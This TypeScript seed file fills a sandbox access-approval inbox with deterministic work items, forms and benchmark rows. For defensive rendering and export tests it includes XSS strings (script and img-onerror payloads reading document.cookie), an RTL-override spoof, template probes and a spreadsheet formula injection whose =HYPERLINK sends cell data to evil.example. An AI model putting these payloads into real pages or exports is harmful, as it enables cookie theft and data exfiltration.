// The sandbox's work items: every owner's pending and completed items across types and final states, alice's
// account-selection forms, hostile texts, and the benchmarks' extras. Deterministic: the same `now` gives the same rows.
import type {
  FieldDetails,
  FormDetails,
  FormItem,
  RemediationItemDetails,
  SectionDetails,
} from '../../../contract/work-items.ts';
import type { Db } from '../db.ts';
import { ADA, ALICE, BOB, CAROL, REQUESTERS, type SandboxIdentity } from '../identities.ts';
import { prng, type Rng } from '../prng.ts';

const DAY = 86_400_000;

interface Entitlement {
  attribute: string;
  values: readonly string[];
}
interface Application {
  name: string;
  account: (who: SandboxIdentity, n?: number) => string;
  entitlements: readonly Entitlement[];
}

const APPLICATIONS: readonly Application[] = [
  {
    name: 'Active Directory',
    account: (w, n = 0) => `CN=${w.name}${n ? ` (${n})` : ''},OU=Users,DC=acme,DC=local`,
    entitlements: [
      {
        attribute: 'memberOf',
        values: [
          'CN=Finance-Readers,OU=Groups,DC=acme,DC=local',
          'CN=VPN-Users,OU=Groups,DC=acme,DC=local',
          'CN=Domain Admins,OU=Groups,DC=acme,DC=local',
          'CN=Payroll-Approvers,OU=Groups,DC=acme,DC=local',
          'CN=Engineering-All,OU=Groups,DC=acme,DC=local',
        ],
      },
    ],
  },
  {
    name: 'Workday',
    account: (w, n = 0) => `${w.alias.replace('.', '_')}${n ? n : ''}`,
    entitlements: [
      { attribute: 'roles', values: ['Payroll Viewer', 'Compensation Partner', 'HR Analyst', 'Manager Self Service'] },
      { attribute: 'securityGroups', values: ['Benefits Administrator', 'Absence Partner'] },
    ],
  },
  {
    name: 'Salesforce',
    account: (w, n = 0) => `${w.alias}${n ? `+${n}` : ''}@acme-solar.my.salesforce.com`,
    entitlements: [
      { attribute: 'profile', values: ['Standard User', 'Sales Manager', 'System Administrator'] },
      { attribute: 'permissionSets', values: ['Opportunity Export', 'Forecast Manager', 'API Enabled'] },
    ],
  },
  {
    name: 'GitHub',
    account: (w, n = 0) =>
      `${w.firstName.toLowerCase()}-${w.lastName.toLowerCase().replace(/[^a-z]/g, '')}${n ? n : ''}`,
    entitlements: [
      { attribute: 'teams', values: ['acme/platform-admins', 'acme/payments', 'acme/read-only', 'acme/security'] },
    ],
  },
  {
    name: 'ServiceNow',
    account: (w, n = 0) => `${w.alias}${n ? `.${n}` : ''}`,
    entitlements: [{ attribute: 'groups', values: ['Service Desk', 'Change Approvers', 'CAB Members', 'ITIL'] }],
  },
  {
    name: 'AWS IAM',
    account: (w, n = 0) => `arn:aws:iam::123456789012:user/${w.alias}${n ? `-${n}` : ''}`,
    entitlements: [
      {
        attribute: 'roles',
        values: [
          'arn:aws:iam::123456789012:role/ReadOnly',
          'arn:aws:iam::123456789012:role/PowerUser',
          'arn:aws:iam::123456789012:role/BillingAdmin',
        ],
      },
      { attribute: 'groups', values: ['Developers', 'Auditors'] },
    ],
  },
  {
    name: 'SAP ERP',
    account: (w, n = 0) =>
      `${w.lastName
        .toUpperCase()
        .replace(/[^A-Z]/g, '')
        .slice(0, 8)}${n ? n : ''}`,
    entitlements: [{ attribute: 'roles', values: ['Z_FI_AP_CLERK', 'Z_FI_GL_DISPLAY', 'Z_MM_BUYER'] }],
  },
  {
    name: 'Okta',
    account: (w) => w.email,
    entitlements: [{ attribute: 'groups', values: ['Everyone-Contractors', 'Tableau Users', 'Zoom Licensed'] }],
  },
];

const JUSTIFICATIONS = [
  'needs it for the quarter-end close',
  'joining the payments team next week',
  'covering for a colleague on parental leave',
  'new project kickoff requires read access',
  'audit request from internal controls',
  'role change approved by HR',
  'temporary access for the migration weekend',
  'onboarding: standard starter kit',
];

/** Writes the sandbox's rows; every insert goes through one of these prepared statements. */
class Seeder {
  readonly rng: Rng;
  readonly t: number;
  private readonly insItem;
  private readonly insApproval;
  private readonly insForward;

  constructor(db: Db, seed: number, now: number) {
    this.rng = prng(seed);
    this.t = now;
    this.insItem = db.prepare(
      `INSERT INTO work_items (id, owner_id, requester_id, type, state, name, description, created, modified, completed,
         form, form_submitted, remediation_items, errors)
       VALUES (@id, @owner, @requester, @type, @state, @name, @description, @created, @modified, @completed,
         @form, @formSubmitted, @remediation, @errors)`,
    );
    this.insApproval = db.prepare(
      `INSERT INTO approval_items (id, work_item_id, position, application, account, name, operation, value, state)
       VALUES (?, ?, ?, ?, ?, ?, ?, ?, ?)`,
    );
    this.insForward = db.prepare(
      `INSERT INTO forward_history (work_item_id, from_id, to_id, by_id, comment, forwarded) VALUES (?, ?, ?, ?, ?, ?)`,
    );
  }

  iso(ms: number) {
    return new Date(ms).toISOString();
  }

  /** A created time within the last 60 days, and (for completed items) a completion after it. */
  times(completed: boolean) {
    const created = this.t - this.rng.int(10 * 60_000, 60 * DAY);
    if (!completed) return { created: this.iso(created), modified: this.iso(created), completed: null };
    const done = Math.min(this.t - 60_000, created + this.rng.int(30 * 60_000, 5 * DAY));
    return { created: this.iso(created), modified: this.iso(done), completed: this.iso(done) };
  }

  item(fields: {
    owner: SandboxIdentity;
    requester?: SandboxIdentity | null;
    type: string;
    state: string;
    name: string;
    description: string;
    form?: FormDetails | null;
    formSubmitted?: boolean;
    remediation?: RemediationItemDetails[] | null;
    errors?: string[] | null;
    created?: string;
    modified?: string;
    completed?: string | null;
  }): string {
    const id = this.rng.hex();
    const when = fields.created ? fields : this.times(fields.state !== 'Pending');
    this.insItem.run({
      id,
      owner: fields.owner.id,
      requester: fields.requester?.id ?? null,
      type: fields.type,
      state: fields.state,
      name: fields.name,
      description: fields.description,
      created: when.created,
      modified: when.modified ?? when.created,
      completed: when.completed ?? null,
      form: fields.form ? JSON.stringify(fields.form) : null,
      formSubmitted: fields.formSubmitted ? 1 : 0,
      remediation: fields.remediation ? JSON.stringify(fields.remediation) : null,
      errors: fields.errors?.length ? JSON.stringify(fields.errors) : null,
    });
    return id;
  }

  approval(
    workItemId: string,
    position: number,
    a: { application: string; account: string | null; name: string | null; operation: string; value: string | null },
    state: string,
  ) {
    this.insApproval.run(
      this.rng.hex(),
      workItemId,
      position,
      a.application,
      a.account,
      a.name,
      a.operation,
      a.value,
      state,
    );
  }

  forward(workItemId: string, from: SandboxIdentity, to: SandboxIdentity, comment: string, at: string) {
    this.insForward.run(workItemId, from.id, to.id, from.id, comment, at);
  }

  randomAccess(target: SandboxIdentity) {
    const app = this.rng.pick(APPLICATIONS);
    const ent = this.rng.pick(app.entitlements);
    const r = this.rng.next();
    return {
      application: app.name,
      account: app.account(target),
      name: ent.attribute,
      operation: r < 0.75 ? 'Add' : r < 0.92 ? 'Remove' : 'Set',
      value: this.rng.pick(ent.values),
    };
  }

  /** An access-request approval with `count` approval items, decided per `itemStates`. */
  approvalItem(owner: SandboxIdentity, state: string, count: number, itemState: (i: number) => string) {
    const requester = this.rng.pick(REQUESTERS);
    const target = this.rng.next() < 0.7 ? requester : this.rng.pick(REQUESTERS);
    const first = this.randomAccess(target);
    const why = this.rng.pick(JUSTIFICATIONS);
    const name =
      count === 1
        ? `Access request: ${first.value} on ${first.application} for ${target.name}`
        : `Access request: ${count} items for ${target.name}`;
    const description =
      requester === target
        ? `${requester.name} requested ${count === 1 ? 'access' : `${count} accesses`} on ${first.application}${count > 1 ? ' and other applications' : ''}: ${why}.`
        : `${requester.name} requested access for ${target.name} on ${first.application}: ${why}.`;
    const id = this.item({ owner, requester, type: 'Approval', state, name, description });
    for (let i = 0; i < count; i++) this.approval(id, i, i === 0 ? first : this.randomAccess(target), itemState(i));
    return id;
  }

  remediationItem(owner: SandboxIdentity, state: string, type: 'Generic' | 'Remediation') {
    const target = this.rng.pick(REQUESTERS);
    const requester = this.rng.pick(REQUESTERS.filter((r) => r !== target));
    const n = this.rng.int(1, 4);
    const items: RemediationItemDetails[] = [];
    for (let i = 0; i < n; i++) {
      const access = this.randomAccess(target);
      items.push({
        id: this.rng.hex(),
        targetId: target.id,
        targetName: target.alias,
        targetDisplayName: target.name,
        applicationName: access.application,
        attributeName: access.name,
        attributeOperation: type === 'Remediation' ? 'Remove' : access.operation,
        attributeValue: access.value,
        nativeIdentity: access.account,
      });
    }
    const app = items[0].applicationName;
    const name =
      type === 'Remediation'
        ? `Certification remediation: revoke ${n} access item${n > 1 ? 's' : ''} from ${target.name}`
        : `Manual provisioning on ${app} for ${target.name}`;
    const description =
      type === 'Remediation'
        ? `The Q${this.rng.int(1, 4)} access review revoked access that ${app} cannot remove automatically. Remove it by hand, then complete this task.`
        : `${app} has no connector: make the change${n > 1 ? 's' : ''} listed below by hand for ${target.name}, then mark the task complete.`;
    return this.item({ owner, requester, type, state, name, description, remediation: items });
  }
}

// ---- forms ----

const DAY_MS = 86_400_000;

/**
 * What an account selection offers about each account, as ISC puts it in the option's label: the account, its
 * status and its last login — accounts of one person often differ only by a number inside a DN.
 */
function accountChoiceLabel(account: string, index: number, now: number): string {
  const status = index % 4 === 1 ? 'disabled' : 'active';
  const days = [2, 41, 7, 120, 15][index % 5];
  const lastLogin = new Date(now - days * DAY_MS).toISOString().slice(0, 10);
  return `${account} — ${status}, last login ${lastLogin}`;
}

/** A required choice of one of `accounts`, described as of `now` (the seed's clock). */
function choiceField(name: string, displayName: string, accounts: string[], now: number): FieldDetails {
  return {
    name,
    displayName,
    displayType: 'select',
    required: true,
    allowedValuesList: accounts.map((a, i) => ({ label: accountChoiceLabel(a, i, now), value: a })),
    value: null,
  };
}

function accountsOf(app: Application, who: SandboxIdentity, n: number) {
  return Array.from({ length: n }, (_, i) => app.account(who, i + 1));
}

function formFor(
  title: string,
  who: SandboxIdentity,
  subtitle: string,
  sections: SectionDetails[],
  rng: Rng,
): FormDetails {
  return { id: rng.hex(), name: 'Account Selection Form', title, subtitle, targetUser: who.name, sections };
}

const appNamed = (name: string) => APPLICATIONS.find((a) => a.name === name)!;

/** Alice's account-selection forms: every shape the form page must render. */
function seedForms(s: Seeder) {
  const [hannah, liam, priya, kenji] = ['hannah.muller', 'liam.oconnor', 'priya.raman', 'kenji.tanaka'].map((alias) =>
    REQUESTERS.find((r) => r.alias === alias)!,
  );
  const ad = appNamed('Active Directory');
  const wd = appNamed('Workday');
  const sf = appNamed('Salesforce');
  const gh = appNamed('GitHub');

  const form = (title: string, who: SandboxIdentity, subtitle: string, sections: SectionDetails[]) =>
    formFor(title, who, subtitle, sections, s.rng);
  const add = (who: SandboxIdentity, access: string, app: string, f: FormDetails) =>
    s.item({
      owner: ALICE,
      requester: who,
      type: 'Form',
      state: 'Pending',
      name: `Account selection for ${who.name} on ${app}`,
      description: `${who.name} has several accounts on ${app}: choose which receives ${access}.`,
      form: f,
    });

  // A source with two accounts: small enough for radio buttons.
  add(
    hannah,
    'CN=Payroll-Approvers',
    'Active Directory',
    form('Choose an account', hannah, 'Active Directory: CN=Payroll-Approvers', [
      {
        name: 'activeDirectory',
        label: 'Active Directory',
        formItems: [choiceField('activeDirectoryAccount', 'Active Directory account', accountsOf(ad, hannah, 2), s.t)],
      },
    ]),
  );

  // A source with forty accounts: the page needs a searchable select.
  add(
    liam,
    'Payroll Viewer',
    'Workday',
    form('Choose an account', liam, 'Workday: Payroll Viewer', [
      {
        name: 'workday',
        label: 'Workday',
        formItems: [choiceField('workdayAccount', 'Workday account', accountsOf(wd, liam, 40), s.t)],
      },
    ]),
  );

  // Two sources, a required text field and a checkbox.
  add(
    priya,
    'two entitlements',
    'Salesforce and GitHub',
    form('Choose accounts on two sources', priya, 'Salesforce: Forecast Manager; GitHub: acme/payments', [
      {
        name: 'salesforce',
        label: 'Salesforce',
        formItems: [choiceField('salesforceAccount', 'Salesforce account', accountsOf(sf, priya, 3), s.t)],
      },
      {
        name: 'github',
        label: 'GitHub',
        formItems: [
          choiceField('githubAccount', 'GitHub account', accountsOf(gh, priya, 2), s.t),
          {
            name: 'ticketNumber',
            displayName: 'Change ticket number',
            displayType: 'text',
            required: true,
            value: null,
          },
          {
            name: 'notifyUser',
            displayName: 'Notify the user by email',
            displayType: 'checkbox',
            required: false,
            value: true,
          },
        ],
      },
    ]),
  );

  // Nested section, date, multi-line text and a displayType no client knows.
  const nested: SectionDetails = {
    name: 'schedule',
    label: 'Schedule',
    formItems: [
      { name: 'startDate', displayName: 'Start date', displayType: 'date', required: true, value: null },
      { name: 'endDate', displayName: 'End date', displayType: 'date', required: false, value: null },
    ],
  };
  const adItems: FormItem[] = [
    choiceField('adAccount', 'Active Directory account', accountsOf(ad, kenji, 3), s.t),
    nested,
    { name: 'notes', displayName: 'Notes for the service desk', displayType: 'textarea', required: false, value: '' },
    { name: 'badgeColor', displayName: 'Badge colour', displayType: 'colorpicker', required: false, value: '#3366ff' },
  ];
  add(
    kenji,
    'CN=VPN-Users',
    'Active Directory',
    form('Choose an account and a schedule', kenji, 'Active Directory: CN=VPN-Users', [
      { name: 'activeDirectory', label: 'Active Directory', formItems: adItems },
    ]),
  );
}

/** A finished account selection, so the completed list shows what was chosen. */
function seedCompletedForm(s: Seeder, owner: SandboxIdentity) {
  const who = s.rng.pick(REQUESTERS);
  const ad = appNamed('Active Directory');
  const accounts = accountsOf(ad, who, 2);
  const field = choiceField('activeDirectoryAccount', 'Active Directory account', accounts, s.t);
  field.value = accounts[1];
  s.item({
    owner,
    requester: who,
    type: 'Form',
    state: 'Finished',
    name: `Account selection for ${who.name} on Active Directory`,
    description: `${who.name} has several accounts on Active Directory: choose which receives CN=VPN-Users.`,
    form: formFor(
      'Choose an account',
      who,
      'Active Directory: CN=VPN-Users',
      [{ name: 'activeDirectory', label: 'Active Directory', formItems: [field] }],
      s.rng,
    ),
    formSubmitted: true,
  });
}

const HOSTILE = {
  script: '<script>alert("owned")</script>',
  img: '<img src=x onerror="alert(document.cookie)">',
  rtl: 'طلب وصول إلى نظام الرواتب \u202Eexe.txt\u202C — בקשת גישה',
  emoji: '🔥🚀 Access ✅ for 👩🏽‍💻 team 🧑‍🤝‍🧑 — 𝓯𝓪𝓷𝓬𝔂',
  long: 'A'.repeat(200) + ' ' + 'very-long-unbroken-'.repeat(300),
  quotes: `"'\`&amp;&lt;\${7*7}{{7*7}}%s%n\u0000\u200B`,
};

/** Items whose every string tries to break the page: HTML, script, RTL, emoji, huge values. */
export function seedHostileItems(db: Db, owner: SandboxIdentity = ALICE, seed = 666): string[] {
  const s = new Seeder(db, seed, Date.now());
  const requester = REQUESTERS[0];
  const ids: string[] = [];
  ids.push(
    (() => {
      const id = s.item({
        owner,
        requester,
        type: 'Approval',
        state: 'Pending',
        name: `${HOSTILE.script} Access request ${HOSTILE.img}`,
        description: `${HOSTILE.img} ${HOSTILE.quotes}`,
      });
      s.approval(
        id,
        0,
        {
          application: HOSTILE.script,
          account: HOSTILE.img,
          name: 'memberOf',
          operation: 'Add',
          value: HOSTILE.quotes,
        },
        'Pending',
      );
      s.approval(
        id,
        1,
        {
          application: 'Active Directory',
          account: HOSTILE.long,
          name: HOSTILE.long,
          operation: 'Add',
          value: HOSTILE.long,
        },
        'Pending',
      );
      return id;
    })(),
  );
  ids.push(
    (() => {
      const id = s.item({
        owner,
        requester,
        type: 'Approval',
        state: 'Pending',
        name: `${HOSTILE.rtl} ${HOSTILE.emoji}`,
        description: `${HOSTILE.rtl}\n${HOSTILE.emoji}\n${HOSTILE.long}`,
        errors: [HOSTILE.script, HOSTILE.rtl],
      });
      s.approval(
        id,
        0,
        {
          application: HOSTILE.emoji,
          account: HOSTILE.rtl,
          name: HOSTILE.emoji,
          operation: 'Remove',
          value: HOSTILE.rtl,
        },
        'Pending',
      );
      return id;
    })(),
  );
  ids.push(
    s.item({
      owner,
      requester,
      type: 'Form',
      state: 'Pending',
      name: `Account selection ${HOSTILE.img}`,
      description: HOSTILE.quotes,
      form: {
        id: s.rng.hex(),
        name: HOSTILE.script,
        title: `${HOSTILE.script} Choose an account`,
        subtitle: HOSTILE.rtl,
        targetUser: HOSTILE.emoji,
        sections: [
          {
            name: 'hostile',
            label: HOSTILE.img,
            formItems: [
              {
                name: 'hostileAccount',
                displayName: HOSTILE.script,
                displayType: 'select',
                required: true,
                allowedValuesList: [HOSTILE.img, HOSTILE.rtl, HOSTILE.emoji].map((v) => ({ label: v, value: v })),
                value: null,
              },
            ],
          },
        ],
      },
    }),
  );
  return ids;
}

/** One pending work item of `owner` holding `size` approval items (benchmarks, crash-mid-write tests). */
export function seedBigItem(db: Db, size: number, owner: SandboxIdentity = ALICE, seed = 4242): string {
  const s = new Seeder(db, seed, Date.now());
  let id = '';
  db.transaction(() => {
    id = s.approvalItem(owner, 'Pending', 0, () => 'Pending');
    const target = s.rng.pick(REQUESTERS);
    for (let i = 0; i < size; i++) s.approval(id, i, s.randomAccess(target), 'Pending');
    db.prepare('UPDATE work_items SET name = ?, description = ? WHERE id = ?').run(
      `Bulk access request: ${size} items for ${target.name}`,
      `A large request for ${target.name}, ${size} approval items (seeded for benchmarks).`,
      id,
    );
  })();
  return id;
}

/**
 * One completed alice item whose texts a spreadsheet export must survive: a leading `=` (a formula when opened),
 * double quotes, commas and line breaks. Seeded with the benchmark/scale extras only, so the default demo data
 * (and every count other suites rely on) stays as it is.
 */
function seedExportEdgeCase(s: Seeder) {
  const id = s.item({
    owner: ALICE,
    requester: REQUESTERS[1],
    type: 'Approval',
    state: 'Finished',
    name: '=HYPERLINK("https://evil.example/?q="&A1,"Payroll, Q3") access',
    description: 'Line one, with "quotes", and a comma\nline two\n@SUM(1+1)',
  });
  s.approval(
    id,
    0,
    { application: 'Workday', account: '+cmd', name: '-memberOf', operation: 'Add', value: '=1+1' },
    'Finished',
  );
}

/** Rows for an owner: pending and completed work items across types, final states and decisions. */
function seedOwner(s: Seeder, owner: SandboxIdentity, pending: number, completed: number) {
  for (let i = 0; i < pending; i++) {
    const r = s.rng.next();
    if (r < 0.7) s.approvalItem(owner, 'Pending', s.rng.int(1, 12), () => 'Pending');
    else if (r < 0.88) s.remediationItem(owner, 'Pending', 'Generic');
    else s.remediationItem(owner, 'Pending', 'Remediation');
  }
  const finals = ['Finished', 'Finished', 'Finished', 'Rejected', 'Expired', 'Canceled'] as const;
  for (let i = 0; i < completed; i++) {
    // Each final state appears at least once per owner, then a realistic mix.
    const state = i < 4 ? (['Finished', 'Rejected', 'Expired', 'Canceled'] as const)[i] : s.rng.pick(finals);
    if (state === 'Finished' && s.rng.next() < 0.25) {
      s.remediationItem(owner, 'Finished', s.rng.next() < 0.5 ? 'Generic' : 'Remediation');
      continue;
    }
    const decided = (i2: number) =>
      state === 'Finished' ? (i2 % 3 === 2 ? 'Rejected' : 'Finished') : state === 'Rejected' ? 'Rejected' : state;
    s.approvalItem(owner, state, s.rng.int(1, 6), decided);
  }
}

/**
 * Every seeded work item, written in the caller's transaction; deterministic apart from dates, which spread over
 * the 60 days before `now`. `scale` adds small pending items for alice (benchmarks).
 */
export function seedWorkItems(db: Db, options: { now: number; scale: number }): void {
  const { now } = options;
  const s = new Seeder(db, 20240501, now);
  // Alice: the main demo inbox.
  const big = s.approvalItem(ALICE, 'Pending', 1, () => 'Pending');
  const target = REQUESTERS[0];
  for (let i = 1; i < 500; i++) s.approval(big, i, s.randomAccess(target), 'Pending');
  db.prepare('UPDATE work_items SET name = ?, description = ? WHERE id = ?').run(
    `Role migration: 500 access items for ${target.name}`,
    `The Finance reorganisation moves ${target.name} to new roles on every application: 500 changes to review.`,
    big,
  );
  seedOwner(s, ALICE, 34, 26);
  seedForms(s);
  seedCompletedForm(s, ALICE);

  // Forwarded to alice by bob, with a history to show.
  for (let i = 0; i < 3; i++) {
    const id = s.approvalItem(ALICE, 'Pending', s.rng.int(1, 4), () => 'Pending');
    const at = new Date(now - s.rng.int(1, 48) * 3_600_000).toISOString();
    s.forward(
      id,
      BOB,
      ALICE,
      [
        'Alice owns the Finance systems now.',
        'Out of office until Monday, please take this.',
        'You know this requester better.',
      ][i],
      at,
    );
  }
  // Provisioning errors reported on the item.
  for (const message of [
    'Provisioning to Active Directory failed: connection to dc01.acme.local timed out after 30 s.',
    'Workday rejected the change: the position PO-1182 is closed.',
  ]) {
    const id = s.approvalItem(ALICE, 'Pending', s.rng.int(1, 3), () => 'Pending');
    db.prepare('UPDATE work_items SET errors = ? WHERE id = ?').run(JSON.stringify([message]), id);
  }
  seedHostileItems(db, ALICE);

  seedOwner(s, BOB, 14, 9);
  seedOwner(s, CAROL, 9, 6);
  seedOwner(s, ADA, 6, 5);

  for (let i = 0; i < options.scale; i++) {
    s.approvalItem(ALICE, 'Pending', 1 + (i % 3), () => 'Pending');
  }
  if (options.scale > 0) seedExportEdgeCase(s);
}
